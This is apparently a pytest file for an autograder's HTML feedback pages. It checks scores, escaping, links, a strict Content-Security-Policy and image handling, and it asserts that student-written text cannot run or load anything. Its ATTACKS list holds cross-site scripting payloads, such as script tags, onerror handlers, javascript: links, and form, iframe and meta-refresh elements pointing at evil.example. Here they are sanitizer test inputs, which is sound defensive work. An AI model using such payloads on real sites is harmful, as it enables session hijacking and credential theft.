"""Feedback pages: what they show, and that nothing a student wrote can do anything in a browser."""

from __future__ import annotations

import base64
import hashlib
import html.parser
import re
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autograder import autograded, pages, safe_html
from autograder.exercise_result import ExerciseResult, ShownCell
from autograder.exercises import EXERCISES, Verdict

ALLOWED = {"html", "head", "meta", "title", "style", "body", "main", "footer", "svg", "rect", *safe_html._TAGS}
ATTRIBUTES = {
    *("lang", "charset", "http-equiv", "content", "name", "class", "href", "rel", "title", "src", "alt", "aria-label"),
    *("aria-hidden", "viewbox", "preserveaspectratio", "width", "height", "colspan", "rowspan", "align", "start"),
}


class Reader(html.parser.HTMLParser):
    """Collects what a page would make a browser do."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.loads: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the tag, its attributes, and where they point."""
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name in ("src", "data", "poster", "background", "srcset", "action", "formaction"):
                self.loads.append(value or "")
            if name == "href":
                self.links.append(value or "")


def harmless(page: bytes | str) -> None:
    """Assert that a page has no tag, attribute or address but those of a text with pictures."""
    reader = Reader()
    reader.feed(page.decode() if isinstance(page, bytes) else page)
    assert reader.tags <= ALLOWED
    assert reader.attributes <= ATTRIBUTES
    assert all(address.startswith("data:image/png;base64,") for address in reader.loads)
    assert all(re.match(r"https?://|mailto:|#|[a-z]+\.html$", link, re.IGNORECASE) for link in reader.links)


def png(size: int = 1) -> str:
    """Return a grey picture of size by size as base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = size.to_bytes(4, "big") * 2 + b"\x08\0\0\0\0"
    body = zlib.compress((b"\0" + b"\x80" * size) * size, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


def result(cells: list[ShownCell] | None = None, passed: bool = False, **more) -> ExerciseResult:
    """Return a result of `clip` whose first check has failed."""
    checks = EXERCISES["clip"].checks
    verdicts = [Verdict(check.name, passed or at > 0, check.points, "") for at, check in enumerate(checks)]
    if not passed:
        verdicts[0] = Verdict(checks[0].name, False, checks[0].points, "Only the <upper> bound is kept.")
    return ExerciseResult("clip", EXERCISES["clip"].points, verdicts, cells=cells or [], **more)


def added(source: str = "", cell_type: str = "code", outputs: list | None = None) -> ShownCell:
    return ShownCell("added", cell_type, source, "x", outputs or [])


def shown(*cells: ShownCell) -> str:
    """Return the part of a page that shows what was handed in."""
    return pages.exercise_page("eve", result(list(cells))).decode().partition("What was handed in")[2]


# What a page says


def test_a_page_shows_the_question_each_check_and_each_reason() -> None:
    """Score, titles, the sentence (escaped), notes and the student's code."""
    answer = ShownCell("answer", "code", "def clip(gradients, maxValue):\n    return gradients", "clip")
    page = pages.exercise_page("Zoë", result([answer], notes=["The tag was removed."])).decode()
    first = EXERCISES["clip"].checks[0]
    assert f"<b>{EXERCISES['clip'].points - first.points}</b> of {EXERCISES['clip'].points} points" in page
    assert all(check.title in page for check in EXERCISES["clip"].checks)
    assert "Only the &lt;upper&gt; bound is kept." in page
    assert "The tag was removed." in page
    assert "Zoë" in page
    assert '<span class="nf">clip</span>' in page
    assert pages.asked("clip") in page
    harmless(page)


def test_a_problem_is_said_once_and_above_the_checks() -> None:
    """Not once more beside each check."""
    checks = EXERCISES["clip"].checks
    trouble = "Expected clip.ipynb, but it was not handed in."
    verdicts = [Verdict(check.name, False, check.points, trouble) for check in checks]
    page = pages.exercise_page("ada", ExerciseResult("clip", 10, verdicts, problem=trouble)).decode()
    assert page.count(trouble) == 1
    assert page.index(trouble) < page.index(checks[0].title)


def test_the_index_links_all_exercises_and_names_what_to_look_at() -> None:
    """And every page links back to it."""
    found = pages.feedback_pages("ada", {"clip": result()})
    assert 'href="clip.html"' in found["index.html"].decode()
    assert EXERCISES["clip"].checks[0].title in found["index.html"].decode()
    assert 'href="index.html"' in found["clip.html"].decode()


def test_without_a_sandbox_every_page_says_so() -> None:
    """Feedback, index, overview and the graded notebook; with one, none does."""
    for unsafe in (True, False):
        found = [*pages.feedback_pages("ada", {"clip": result()}, unsafe).values(), pages.overview_page([], 0, unsafe)]
        found.append(autograded.to_bytes(result(), unsafe))
        assert [b"without a sandbox" in page for page in found] == [unsafe] * len(found)


def test_the_courses_own_cells_are_not_repeated_unless_one_failed() -> None:
    """A student reads their own work; a given cell that failed is part of it."""
    error = {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["went wrong"]}
    fine, failed = (ShownCell("given", "code", source, source) for source in ("import fine", "import failed"))
    failed.outputs.append(error)
    page = shown(fine, failed)
    assert "fine" not in page
    assert "went wrong" in page


# What a page cannot do

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<div style='position:fixed;inset:0'>10 of 10 points</div>",
    "<p class='score' id='x'>10 of 10</p>",
    "<base href='https://evil.example/'>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<video src='https://evil.example/x' autoplay></video><audio src=x></audio>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<img src='https://evil.example/x.png'><img srcset='https://evil.example/x.png 1x'>",
    "</pre></div></main></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "![x](https://evil.example/x.png) [x](javascript:alert(1)) <https://ok.example>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b[31m<script>\x1b[0m",
    "{{ 7 * 7 }} {% raw %}",
]


def every_place(text: str) -> list[ShownCell]:
    """Return cells with this text wherever a student can put one."""
    bundle = {"text/html": text, "text/plain": text, "image/svg+xml": text, "application/javascript": text}
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "stream", "name": text, "text": [text]},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        {"output_type": "display_data", "data": bundle, "metadata": {text: text}},
        {"output_type": "execute_result", "data": {"text/markdown": text}},
        {"output_type": "display_data", "data": {"image/png": text, "text/plain": text}},
        {"output_type": "display_data", "data": {"text/latex": text}},
        {"output_type": "update_display_data", "data": bundle},
    ]
    return [added(text, "markdown"), added(text, "raw"), added(text, "code", outputs)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_a_student_writes_runs_or_loads(attack: str) -> None:
    """In source, Markdown, any output, the student's name, a note: text, or clean HTML, or nothing."""
    page = pages.exercise_page(attack, result(every_place(attack), notes=[attack], problem=attack))
    harmless(page)
    text = page.decode()
    assert "49" not in text.partition("</style>")[2] or "7 * 7" not in attack
    harmless(pages.feedback_pages(attack, {"clip": result(problem=attack)})["index.html"])


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_graded_notebook_runs_nothing_in_formgrader(attack: str) -> None:
    """HTML and Markdown are clean, and no richer kind of output is left."""
    notebook = autograded.notebook(result(every_place(attack), notes=[attack]))
    for cell in notebook["cells"]:
        if cell["cell_type"] != "code":
            harmless("" if cell["source"] == attack and "<" not in attack and "![" not in attack else cell["source"])
        for output in cell.get("outputs", ()):
            assert set(output.get("data", {})) <= {"text/plain", "text/html"}
            harmless(output.get("data", {}).get("text/html", ""))


@given(st.text(max_size=400))
@settings(max_examples=60, deadline=None)
def test_any_text_anywhere_gives_a_harmless_page(text: str) -> None:
    """Whatever Hypothesis thinks of."""
    harmless(pages.exercise_page("eve", result(every_place(text), notes=[text])))


KEYS = ["output_type", "data", "text", "traceback", "text/html", "image/png", "name", "stream"]
SCALARS = st.none() | st.booleans() | st.integers() | st.text(max_size=20)
JSON = st.recursive(
    SCALARS, lambda inner: st.lists(inner) | st.dictionaries(st.sampled_from(KEYS), inner), max_leaves=12
)


@given(JSON)
@settings(max_examples=100, deadline=None)
def test_malformed_outputs_are_left_out(value: object) -> None:
    """An output is the student's word: any JSON at all."""
    outputs = [
        value if isinstance(value, dict) else {},
        {"output_type": "stream", "text": value},
        {"output_type": "error", "traceback": value},
        {"output_type": "display_data", "data": value},
        {"output_type": "display_data", "data": {"text/html": value, "image/png": value}},
    ]
    harmless(shown(added("1", "code", outputs)))
    autograded.to_bytes(result([added("1", "code", outputs)]))


def test_each_page_forbids_scripts_and_addresses_once_more() -> None:
    """The policy names the hash of the one style sheet, so no other counts."""
    page = pages.exercise_page("ada", result()).decode()
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)[1]
    style = page.partition("<style>")[2].partition("</style>")[0]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy.startswith("default-src 'none'; img-src data:; ")
    assert f"style-src 'sha256-{digest}'" in policy


# Pictures and sizes


def test_a_picture_is_carried_by_the_page_itself() -> None:
    """A figure as Jupyter stores it; a student's own picture in Markdown or HTML too, if it is a PNG."""
    figure = {"output_type": "display_data", "data": {"image/png": png(3) + "\n", "text/plain": "<Figure>"}}
    assert f'src="data:image/png;base64,{png(3)}"' in shown(added("plot()", "code", [figure]))
    embedded = f"<img src='data:image/png;base64,{png(2)}' alt='mine'>"
    assert png(2) in shown(added("x", "code", [{"output_type": "display_data", "data": {"text/html": embedded}}]))


def vast_png() -> str:
    """Return the beginning of a picture of 30,000 by 30,000 points as base64."""
    return base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR" + (30_000).to_bytes(4, "big") * 2 + b"\x01\0").decode()


@pytest.mark.parametrize(
    "data", ["not base64!", base64.b64encode(b"GIF89a").decode(), png(700), vast_png()], ids=lambda d: d[:8] + d[-4:]
)
def test_what_is_no_small_png_is_no_picture(data: str) -> None:
    """Its plain text stands in for it."""
    figure = {"output_type": "display_data", "data": {"image/png": data, "text/plain": "a figure"}}
    page = shown(added("plot()", "code", [figure]))
    assert "<img" not in page
    assert "a figure" in page


def test_colours_of_a_terminal_are_taken_out() -> None:
    """A traceback reads as text."""
    error = {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\x1b[0;31mE\x1b[0m: v\x07\x1b[1A"]}
    assert "E: v</pre>" in shown(added("1", "code", [error]))


def test_an_overview_links_students_of_any_name() -> None:
    """The link is quoted, the name escaped."""
    row = {"student": "<b>a/#?", "link": "feedback/%3Cb%3E/index.html", "scores": {"clip": 3.0}, "remark": "<i>"}
    page = pages.overview_page([row], 7).decode()
    assert "&lt;b&gt;a/#?" in page
    assert "7 more students" in page
